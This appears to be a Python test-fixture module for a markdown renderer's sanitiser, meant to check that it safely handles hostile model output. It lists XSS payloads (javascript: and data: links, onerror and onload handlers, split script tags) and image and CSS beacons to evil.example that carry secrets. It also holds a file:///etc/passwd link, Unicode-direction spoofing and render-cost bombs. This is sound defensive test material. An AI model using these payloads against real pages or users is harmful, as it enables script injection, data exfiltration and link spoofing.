"""What a model under somebody else's control may write (RELIABILITY §5, H12 to H16)."""

from __future__ import annotations

HOSTILE = (
    # H12: links that run
    "[a](javascript:alert(1)) [b](JaVa\tScript:alert(1)) [c](&#106;avascript:alert(1))",
    "[d](data:text/html,<script>alert(1)</script>) [d](data:image/svg+xml;base64,xx)",
    "[e](vbscript:x) [f](  javascript:alert(1)) <javascript:alert(1)> <data:text/html;base64,xx> [g](file:///etc/passwd)",
    "[h][r] [i]\n\n[r]: javascript:alert(1)\n[i]: <data:text/html,x> 'title'\n",
    "[own](/accounts/logout/) [own](//evil.example/x) [own](?q=1) [own](#top) [x](blob:https://evil/1)",
    '[q](https://evil.example/"onmouseover="alert(1)) [w](<https://evil.example/ onclick=x>)',
    "[https://bank.example](https://evil.example/) [x](https://bank.example@evil.example/) [u](https://evil.example\\@bank)",
    # H13: images and styles that ask somebody
    "![x](https://evil.example/?q=secret) ![][img] ![a](blob:https://evil/1) ![b](//evil.example/p.png)\n\n[img]: https://evil.example/p",
    '<img src=https://evil.example/x onerror=alert(1)> <style>@import "https://evil.example/x"</style>',
    "<svg onload=alert(1)><image href=//evil.example/></svg> <div style='background:url(//evil.example)'>x</div>",
    "[![alt](https://evil.example/i)](https://evil.example/l) ![[a](https://evil.example/x)](https://evil.example/y)",
    # H14: pieces
    "<scr<script>ipt>alert(1)</script>\n\n<!--\n-->\n\n<![CDATA[x]]> <?php x ?> <!DOCTYPE x>\n",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; \\<b\\>\n",
    # H15: code and tables
    '```js"onmouseover=alert(1)\nx</code></pre><script>alert(1)</script>\n```\n\n~~~<img/src=x>\ny\n~~~\n',
    "```html\n<script>alert(1)</script>\n```\n\n`<img src=x onerror=alert(1)>` ``` `<b>` ```\n",
    "| <b>a</b> | [l](javascript:x) |\n|:--|--:|\n| ![i](//evil.example) | `</td><script>` |\n",
    'text[^1] <https://evil.example/"><script>alert(1)</script>\n\n[^1]: note ![x](https://evil.example/)\n',
    # Controls, directions, nothing to see
    "\u202e[gnp.exe](https://evil.example/)\u202c \u2066x\u2069 \x0b\x0c\x1c\x1d\x85\u2028\u2029 \u200b[\u200b](https://evil.example)",
    "1. a\n   > - ```\n   >   <script>\n\n2. b\n\t\t<script>alert(1)</script>\n",
)

#: H16: cheap to write, dear to render; none may lose a character or take long.
BOMBS = (
    "[" * 50_000,
    "![" * 20_000,
    "[a](" * 20_000,
    "> " * 50_000 + "deep",
    ">" * 100_000 + "deep",
    "- " * 20_000 + "deep",
    "*a_" * 20_000,
    "`" * 30_000 + "a" + "``" * 10_000,
    "<" * 50_000,
    "&" * 50_000,
    "|" * 500 + "\n" + "|-" * 500 + "|\n" + ("|x" * 500 + "|\n") * 200,
    "\n".join("  " * depth + "- a" for depth in range(400)),
    "[x]: <" * 5_000 + "\n" + "[x] " * 5_000,
    "".join(f"[{n}]: http://example.org/{n}\n" for n in range(5_000)) + "[1]\n",
    "~~~\n" * 10_001,
    "# " * 20_000,
    "a\n=\n" * 5_000,
    "```python\n" + "(" * 19_000 + "\n```\n",
    "```js\n" + '"\\' * 9_000 + "\n```\n",
    "```html\n" + "<a " * 6_000 + "\n```\n",
    "https://example.org/" * 3_000,
    "\\" * 50_000,
    "![x](http://a) " * 660,
    "[x](http://a) " * 330 + "![x](http://a) " * 330,
)
